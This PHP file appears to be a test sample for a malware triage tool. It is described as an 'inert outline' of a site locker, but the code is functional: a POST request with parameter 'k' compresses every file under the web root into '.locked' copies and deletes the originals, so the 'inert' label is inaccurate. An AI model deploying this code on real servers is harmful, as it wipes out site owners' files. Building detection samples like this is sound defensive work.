<?php
// triage-expect: triage_php_site_locker
// inert outline of a site locker: walk, rewrite each file transformed under a new extension, delete it
function lock_file($f) {
    if (substr($f, -7) === '.locked') { return; }
    file_put_contents($f . '.locked', gzdeflate(file_get_contents($f), 9));
    unlink($f);
}
function lock_dir($d) {
    foreach (array_diff(scandir($d), array('.', '..')) as $n) {
        is_dir("$d/$n") ? lock_dir("$d/$n") : lock_file("$d/$n");
    }
}
if (isset($_POST['k'])) { lock_dir($_SERVER['DOCUMENT_ROOT']); }
